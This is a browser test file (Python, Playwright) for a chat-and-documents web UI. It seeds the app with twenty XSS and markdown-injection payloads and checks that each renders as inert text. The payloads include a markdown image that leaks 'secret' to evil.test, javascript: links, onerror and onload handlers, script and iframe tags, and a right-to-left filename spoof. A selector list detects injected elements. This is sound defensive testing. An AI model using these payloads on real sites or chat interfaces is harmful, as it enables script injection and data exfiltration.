"""Text that tries to act, in every place where the page shows text: in a real browser it stays text.

What a tab asked of the network, and what its console said, is looked at when the tab is closed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.agents.payloads import PAYLOADS
from tests.browser.looking import asked_for_key
from tests.browser.stacks import FakeStack
from tests.ui.fake_papers import Paper
from tests.ui.fake_store import now
from ui.state import VIEWS

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

Opener = Callable[..., Page]
_KINDS = (
    "![chart](http://evil.test/p.png?q=secret)", "[![badge]", "[click here]", "[a](javascript:",
    "[a](data:text/html", "<http://evil.test/p.png>", "http://evil.test/p.png", "www.evil.test/p",
    "//evil.test", "| ![a]", "<img src=x onerror", "<script>alert", "<svg onload", "<iframe src=",
    "<style>@import", '<div style="background', "<meta http-equiv", "<a href='javascript",
    "invoice\u202efdp.exe", ":material/home:",
)  # fmt: skip
TWENTY = tuple(next(p for p in PAYLOADS if p.startswith(kind)) for kind in _KINDS)
_ACTING = ", ".join((
    "[src*='evil.test'], [srcset*='evil.test'], [href*='evil.test'], [action*='evil.test']",
    "[data*='evil.test'], [style*='evil.test'], [href^='javascript:'], [href^='data:text']",
    "[onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle]",
    "iframe, object, embed, base, svg script, meta[http-equiv=refresh]",
))  # fmt: skip
_TURNING = re.compile("[\u202a-\u202e\u2066-\u2069]")


def hostile() -> list[Paper]:
    """Documents whose file names, titles, text, metadata and reasons are payloads."""
    return [
        Paper(
            source=f"upload:{number}-{payload.replace('/', '_')}.txt",
            title=f"{number} {payload}",
            text="\n".join(f"zebra {n} {p}." for n, p in enumerate(TWENTY)) + f"\n{number}",
            media_type="text/plain",
            collection="sample",
            original=b"zebra",
            state="indexed" if number % 2 else "corrupt",
            reason=payload,
        )
        for number, payload in enumerate(TWENTY)
    ]


@pytest.fixture
def poisoned(fake: FakeStack) -> Iterator[FakeStack]:
    """The fake with nothing but payloads in it."""
    store = fake.service.store
    kept = store.papers, store.question_sets, store.person, store.key
    store.papers = {paper.id: paper for paper in hostile()}
    store.question_sets = {
        payload: {
            "name": payload, "origin": "uploaded", "questions": 1, "answerable": 1, "error": payload,
        }
        for payload in TWENTY
    }  # fmt: skip
    store.person = TWENTY[10]
    for number, payload in enumerate(TWENTY):
        store.threads[f"hostile{number}"] = {
            "id": f"hostile{number}", "title": payload, "created": now(), "updated": now(),
            "pinned": False, "messages": [],
        }  # fmt: skip
    yield fake
    store.papers, store.question_sets, store.person, store.key = kept
    store.threads.clear()


def unharmed(tab: Page, dialogs: list[str]) -> None:
    """Nothing on the tab was made by a payload, and nothing it shows turns text around."""
    assert dialogs == []
    assert [found.evaluate("e => e.outerHTML") for found in tab.locator(_ACTING).all()] == []
    text = tab.evaluate("document.body.innerText")
    assert not _TURNING.search(text)
    assert tab.url.startswith("http://127.0.0.1:")


def opened(open_tab: Opener, url: str) -> tuple[Page, list[str]]:
    tab, dialogs = open_tab(url), []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    return tab, dialogs


def ask(tab: Page, question: str) -> None:
    tab.get_by_test_id("stChatInputTextArea").fill(question)
    tab.keyboard.press("Enter")
    expect(tab.locator(".prose.question").last).to_be_visible()
    expect(tab.get_by_role("button", name="Stop")).to_have_count(0)


@pytest.mark.parametrize("view", VIEWS)
def test_twenty_payloads_in_names_and_titles_are_inert(
    view: str, poisoned: FakeStack, open_tab: Opener
) -> None:
    tab, dialogs = opened(open_tab, f"{poisoned.url}/?view={view}")
    expect(tab.get_by_role("heading", level=1)).to_be_visible()
    expect(tab.locator("[class*=st-key-thread-hostile]").first).to_be_visible()
    expect(tab.get_by_test_id("stSkeleton")).to_have_count(0)
    unharmed(tab, dialogs)


def test_twenty_payloads_in_an_answer_its_quotes_and_its_tools_are_inert(
    poisoned: FakeStack, open_tab: Opener
) -> None:
    tab, dialogs = opened(open_tab, poisoned.url)
    poisoned.answer("\n\n".join([*TWENTY, "zebra [1] [2]"]))
    ask(tab, "/search zebra")
    unharmed(tab, dialogs)
    tab.get_by_text(re.compile("1 step")).last.click()
    expect(tab.locator(".prose.log").first).to_be_visible()
    tab.get_by_role("button", name="Open source 1").click()
    expect(tab.locator(".st-key-viewer mark").first).to_be_visible()
    unharmed(tab, dialogs)


def test_twenty_payloads_in_what_a_person_asks_are_inert(
    poisoned: FakeStack, open_tab: Opener
) -> None:
    tab, dialogs = opened(open_tab, poisoned.url)
    ask(tab, "\n".join(TWENTY))
    assert "<script>alert(1)</script>" in tab.locator(".prose.question").last.inner_text()
    unharmed(tab, dialogs)


def test_a_users_name_is_inert(poisoned: FakeStack, open_tab: Opener) -> None:
    store = poisoned.service.store
    store.key = "the key of the test"
    tab, dialogs = opened(open_tab, poisoned.url)
    asked_for_key(tab).fill(store.key)
    tab.keyboard.press("Enter")
    expect(tab.get_by_text("Signed in as")).to_contain_text("<img src=x onerror=alert")
    unharmed(tab, dialogs)


def test_the_twenty_are_of_every_kind() -> None:
    assert len(set(TWENTY)) == 20
